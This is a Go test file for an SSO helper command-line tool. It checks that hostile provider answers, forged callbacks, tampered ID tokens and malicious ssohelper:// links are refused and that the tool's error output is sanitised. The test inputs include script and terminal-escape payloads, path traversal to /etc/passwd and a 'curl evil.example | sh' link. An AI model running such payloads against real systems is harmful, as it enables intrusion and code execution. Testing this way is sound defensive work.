package main

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode"

	"github.com/ssohelper/ssohelper/auth"
	"github.com/ssohelper/ssohelper/auth/account"
	"github.com/ssohelper/ssohelper/auth/authtest"
	"github.com/ssohelper/ssohelper/auth/config"
	"github.com/ssohelper/ssohelper/auth/sanitize"
)

// attackText is provider or platform text meant to take over a terminal
// or a page: markup and a script, a window title (OSC), colours (CSI),
// NUL, a right-to-left override and a token-shaped value.
const attackText = "<b>x</b><script>alert(1)</script>\x1b]0;pwned\x07\x1b[31mRED\x00\u202eevil eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.c2ln"

// attackBrowser signs in on the emulator's hosted page like the user's
// browser, and stops before the redirect to the callback: back is then
// called with that address, changes the provider or the address as the
// attack needs, and the address is loaded (page keeps the answer).
func attackBrowser(back func(callback *url.URL), page *string) auth.Opener {
	return openerFunc(func(ctx context.Context, raw string) error {
		b := &authtest.Browser{Username: "designer", Password: "Design-2026!",
			Unreachable: func(u *url.URL) bool { return u.Hostname() == "localhost" }}
		var stop *authtest.UnreachableError
		if err := b.Open(ctx, raw); !errors.As(err, &stop) {
			return errors.New("the browser did not come back to the callback")
		}
		cb, err := url.Parse(stop.URL)
		if err != nil {
			return err
		}
		back(cb)
		req, err := http.NewRequestWithContext(context.Background(), http.MethodGet, cb.String(), nil)
		if err != nil {
			return err
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			return err
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		if page != nil {
			*page = string(body)
		}
		return nil
	})
}

// assertNothingStored fails when the command left a sign-in behind.
func assertNothingStored(t *testing.T, h *harness) {
	t.Helper()
	if _, err := h.store().Get(context.Background(), account.Name("work")); err == nil {
		t.Error("a sign-in was saved")
	}
	if files, _ := filepath.Glob(filepath.Join(h.dataDir(), "session*")); len(files) > 0 {
		t.Errorf("session files were written: %v", files)
	}
}

// assertPrintableText fails when text carries a control or formatting
// character other than a line break.
func assertPrintableText(t *testing.T, where, text string) {
	t.Helper()
	for _, r := range text {
		if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
			t.Errorf("%s carries %U:\n%q", where, r, text)
			return
		}
	}
}

// TestAttackCommand proves, through the real command against the
// emulator, that hostile answers, callbacks and settings end the command
// with a clear error and its exit code, with nothing saved, and that
// provider and platform text reaches the terminal (the debug log
// included) only through the one sanitiser, with every value the client
// sent redacted.
func TestAttackCommand(t *testing.T) {
	tests := []struct {
		name string
		// attack bends the emulator or the setting and returns the
		// browser and the command line; check runs after the command.
		attack   func(t *testing.T, h *harness) (auth.Opener, []string, func(t *testing.T, h *harness))
		wantCode int
		wantErr  string // in stderr
	}{
		{
			name: "provider error with HTML, script and escapes at the callback",
			attack: func(t *testing.T, h *harness) (auth.Opener, []string, func(*testing.T, *harness)) {
				var page string
				opener := attackBrowser(func(cb *url.URL) {
					q := cb.Query()
					cb.RawQuery = url.Values{"error": {"server_error"}, "error_description": {attackText}, "state": {q.Get("state")}}.Encode()
				}, &page)
				return opener, []string{"login"}, func(t *testing.T, h *harness) {
					if !strings.Contains(page, "&lt;script&gt;alert(1)&lt;/script&gt;") || strings.Contains(page, "<script>alert") {
						t.Errorf("the page does not show the provider's text inert:\n%s", page)
					}
					assertPrintableText(t, "the page", page)
					if want := sanitize.Redact(attackText); !strings.Contains(h.stderr.String(), want) {
						t.Errorf("stderr lacks the provider's text as sanitize.Redact shows it (%q):\n%s", want, h.stderr.String())
					}
				}
			},
			wantCode: exitError, wantErr: "the identity provider refused the sign-in: server_error",
		},
		{
			name: "a callback from another issuer (mix-up)",
			attack: func(t *testing.T, h *harness) (auth.Opener, []string, func(*testing.T, *harness)) {
				return attackBrowser(func(cb *url.URL) { cb.RawQuery += "&iss=" + url.QueryEscape("https://evil.example") }, nil),
					[]string{"login"}, nil
			},
			wantCode: exitError, wantErr: "unexpected issuer",
		},
		{
			name: "a web page's forged callback, then the user cancels",
			attack: func(t *testing.T, h *harness) (auth.Opener, []string, func(*testing.T, *harness)) {
				var forged atomic.Int32
				opener := openerFunc(func(ctx context.Context, raw string) error {
					u, err := url.Parse(raw)
					if err != nil {
						return err
					}
					resp, err := http.Get(u.Query().Get("redirect_uri") + "?code=attacker-code&state=forged")
					if err != nil {
						return err
					}
					resp.Body.Close()
					forged.Store(int32(resp.StatusCode))
					return (&authtest.Browser{Cancel: true}).Open(ctx, raw)
				})
				return opener, []string{"login"}, func(t *testing.T, h *harness) {
					if forged.Load() != http.StatusBadRequest {
						t.Errorf("the forged callback got %d; want 400", forged.Load())
					}
					if n := h.srv.Counts().CodeGrant; n != 0 {
						t.Errorf("%d codes redeemed; want none (the attacker's code is never sent)", n)
					}
				}
			},
			wantCode: exitCancelled, wantErr: "cancelled",
		},
		{
			name: "an id_token with the nonce of another sign-in",
			attack: func(t *testing.T, h *harness) (auth.Opener, []string, func(*testing.T, *harness)) {
				h.srv.SetIDTokenHook(func(c map[string]any) { c["nonce"] = "nonce-of-another-sign-in" })
				return goBrowser("designer", "Design-2026!"), []string{"login"}, nil
			},
			wantCode: exitError, wantErr: "id_token refused: nonce does not match",
		},
		{
			name: "an id_token with a bad signature",
			attack: func(t *testing.T, h *harness) (auth.Opener, []string, func(*testing.T, *harness)) {
				h.srv.SetTamperIDToken(true)
				return goBrowser("designer", "Design-2026!"), []string{"login"}, nil
			},
			wantCode: exitError, wantErr: "id_token refused",
		},
		{
			name: "discovery sending the browser to javascript:",
			attack: func(t *testing.T, h *harness) (auth.Opener, []string, func(*testing.T, *harness)) {
				h.srv.SetDiscoveryHook(func(doc map[string]any) { doc["authorization_endpoint"] = "javascript:alert(document.cookie)//" })
				var opened atomic.Bool
				opener := openerFunc(func(context.Context, string) error { opened.Store(true); return nil })
				return opener, []string{"login"}, func(t *testing.T, h *harness) {
					if opened.Load() {
						t.Error("the browser was opened")
					}
				}
			},
			wantCode: exitError, wantErr: "unsafe authorization_endpoint",
		},
		{
			name: "a token error echoing the code, with escapes",
			attack: func(t *testing.T, h *harness) (auth.Opener, []string, func(*testing.T, *harness)) {
				var code string
				opener := attackBrowser(func(cb *url.URL) {
					code = cb.Query().Get("code")
					body, _ := json.Marshal(map[string]string{"error": "invalid_request",
						"error_description": "bad code " + code + " " + attackText})
					h.srv.SetFault("/oauth2/token", authtest.Fault{Status: 400, Body: string(body)})
				}, nil)
				return opener, []string{"-v", "login"}, func(t *testing.T, h *harness) {
					if code == "" || strings.Contains(h.stderr.String(), code) {
						t.Errorf("stderr shows the code the client sent:\n%s", h.stderr.String())
					}
					if !strings.Contains(h.stderr.String(), "bad code [redacted] ") {
						t.Errorf("stderr lacks the provider's text with the code redacted:\n%s", h.stderr.String())
					}
				}
			},
			wantCode: exitError, wantErr: "code exchange",
		},
		{
			name: "the platform echoing the client app secret, with escapes",
			attack: func(t *testing.T, h *harness) (auth.Opener, []string, func(*testing.T, *harness)) {
				secret := authtest.DemoPlatformApp().Secret
				body, _ := json.Marshal(map[string]string{"error": "invalid_client", "error_description": "bad secret " + secret + " " + attackText})
				h.srv.SetFault("/platform/oauth/token", authtest.Fault{Status: 401, Body: string(body)})
				return goBrowser("designer", "Design-2026!"), []string{"-v", "login"}, func(t *testing.T, h *harness) {
					if strings.Contains(h.stderr.String(), secret) {
						t.Errorf("stderr shows the client app secret:\n%s", h.stderr.String())
					}
				}
			},
			wantCode: exitError, wantErr: "platform",
		},
		{
			name: "the platform refusing the user with a token-shaped value and escapes",
			attack: func(t *testing.T, h *harness) (auth.Opener, []string, func(*testing.T, *harness)) {
				body, _ := json.Marshal(map[string]string{"error": "access_denied", "error_description": attackText})
				h.srv.SetFault(h.srv.ProvisionPath(), authtest.Fault{Status: 403, Body: string(body)})
				return goBrowser("designer", "Design-2026!"), []string{"-v", "login"}, func(t *testing.T, h *harness) {
					if strings.Contains(h.stderr.String(), "eyJzdWIiOiJ4In0") {
						t.Errorf("stderr shows the token-shaped value:\n%s", h.stderr.String())
					}
				}
			},
			wantCode: exitError, wantErr: "platform",
		},
		{
			name: "the config is /dev/zero",
			attack: func(t *testing.T, h *harness) (auth.Opener, []string, func(*testing.T, *harness)) {
				return nil, []string{"--config", "/dev/zero", "login"}, nil
			},
			wantCode: exitConfig, wantErr: "is not a regular file (a device)",
		},
		{
			name: "the config is a FIFO",
			attack: func(t *testing.T, h *harness) (auth.Opener, []string, func(*testing.T, *harness)) {
				fifo := filepath.Join(t.TempDir(), "config.toml")
				mkfifo(t, fifo)
				h.env[config.EnvConfig] = fifo
				return nil, []string{"token"}, nil
			},
			wantCode: exitConfig, wantErr: "is not a regular file (a FIFO)",
		},
		{
			name: "--profile with path traversal",
			attack: func(t *testing.T, h *harness) (auth.Opener, []string, func(*testing.T, *harness)) {
				return goBrowser("designer", "Design-2026!"), []string{"login", "--profile", "../../work"}, nil
			},
			wantCode: exitConfig, wantErr: "unknown profile",
		},
		{
			name: "$SSOHELPER_PROFILE with escape sequences",
			attack: func(t *testing.T, h *harness) (auth.Opener, []string, func(*testing.T, *harness)) {
				h.env[config.EnvProfile] = "\x1b]0;pwned\x07\x1b[31mwork\u202e"
				return nil, []string{"token"}, nil
			},
			wantCode: exitConfig, wantErr: "unknown profile",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHarness(t, authtest.Options{})
			opener, args, check := tt.attack(t, h)
			ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
			defer cancel()
			// The browser: a failure page it ends on (*authtest.StatusError)
			// is what a refused sign-in shows; anything else breaks the
			// test, and stops the command rather than leave it waiting.
			var browserErr error
			var opened atomic.Bool
			browserDone := make(chan struct{})
			if opener != nil {
				inner := opener
				opener = openerFunc(func(ctx context.Context, u string) error {
					opened.Store(true)
					defer close(browserDone)
					err := inner.Open(ctx, u)
					if se := (*authtest.StatusError)(nil); err != nil && !errors.As(err, &se) && !errors.Is(err, context.Canceled) {
						browserErr = err
						cancel()
					}
					return err
				})
			}
			code := h.run(ctx, opener, args...)
			if opened.Load() { // the browser reads its last page after the command ends
				select {
				case <-browserDone:
				case <-time.After(time.Minute):
					t.Fatal("the test's browser never finished")
				}
			}
			if browserErr != nil {
				t.Errorf("the test's browser: %v", browserErr)
			}
			t.Logf("exit %d; stderr:\n%s", code, h.stderr.String())
			if code != tt.wantCode {
				t.Errorf("exit %d; want %d; stderr:\n%s", code, tt.wantCode, h.stderr.String())
			}
			if !strings.Contains(h.stderr.String(), tt.wantErr) {
				t.Errorf("stderr lacks %q:\n%s", tt.wantErr, h.stderr.String())
			}
			if h.stdout.Len() != 0 {
				t.Errorf("stdout: got %q; want nothing", h.stdout.String())
			}
			assertPrintableText(t, "stderr", h.stderr.String())
			if jwtShapedText(h.stderr.String()) {
				t.Errorf("stderr carries a token:\n%s", h.stderr.String())
			}
			assertNothingStored(t, h)
			if check != nil {
				check(t, h)
			}
		})
	}
}

// jwtShapedText reports whether s holds something shaped like a JWT.
func jwtShapedText(s string) bool { return jwtShapedRE.MatchString(s) }

var jwtShapedRE = regexp.MustCompile(`eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{4,}`)

// TestAttackLink proves that the ssohelper:// handler refuses every link a
// web page could use beyond "open" and "login?profile=NAME": other
// actions, extra parameters, injection, overlong links, NUL and path
// traversal. Each is refused by the real command before the desktop app,
// its single-instance socket or its log starts, with a printable message
// that does not echo the link, and nothing is stored.
func TestAttackLink(t *testing.T) {
	// A build without the desktop app has no ssohelper:// handler: there
	// a link is refused as an unknown command, quoted, cut short.
	refusal := "refused the link"
	if !hasDesktop {
		refusal = "unknown command"
	}
	h := newHarness(t, authtest.Options{})
	links := []struct{ name, link string }{
		{"another action: logout", "ssohelper://logout"},
		{"another action: token", "ssohelper://token?profile=work"},
		{"another action: exec", "ssohelper://exec?cmd=" + url.QueryEscape("curl evil.example | sh")},
		{"an extra parameter that would sign in", "ssohelper://login?profile=work&auto=1"},
		{"a second profile", "ssohelper://login?profile=work&profile=other"},
		{"path traversal in the profile", "ssohelper://login?profile=" + url.QueryEscape("../../.config/ssohelper/config.toml")},
		{"path traversal in the path", "ssohelper://open/../../etc/passwd"},
		{"NUL in the profile", "ssohelper://login?profile=work%00evil"},
		{"escape sequences in the profile", "ssohelper://login?profile=%1b%5d0%3bpwned%07%1b%5b31m"},
		{"CRLF in the action", "ssohelper://open%0d%0aX-Injected:1"},
		{"credentials before the action", "ssohelper://admin:secret@open"},
		{"a port", "ssohelper://open:47615"},
		{"a fragment", "ssohelper://open#login?profile=work"},
		{"an opaque link", "ssohelper:open"},
		{"an overlong link", "ssohelper://login?profile=" + strings.Repeat("a", 1<<20)},
	}
	for _, tt := range links {
		t.Run(tt.name, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
			defer cancel()
			code := h.run(ctx, nil, tt.link)
			if code != exitConfig || !strings.Contains(h.stderr.String(), refusal) {
				t.Errorf("exit %d; want %d refusing the link; stderr:\n%.500s", code, exitConfig, h.stderr.String())
			}
			errs := h.stderr.String()
			t.Logf("exit %d; stderr: %.300s", code, errs)
			assertPrintableText(t, "stderr", errs)
			if len(errs) > 1<<10 {
				t.Errorf("stderr is %d bytes; want a short refusal", len(errs))
			}
			if hasDesktop && (strings.Contains(errs, "curl evil") || strings.Contains(errs, "etc/passwd") || strings.Contains(errs, "pwned")) {
				t.Errorf("the refusal echoes the link:\n%s", errs)
			}
			if h.stdout.Len() != 0 {
				t.Errorf("stdout: got %q; want nothing", h.stdout.String())
			}
			assertNothingStored(t, h)
			if entries, _ := os.ReadDir(h.dataDir()); len(entries) > 0 {
				t.Errorf("the refused link left files in the data directory: %v", entries)
			}
		})
	}
}
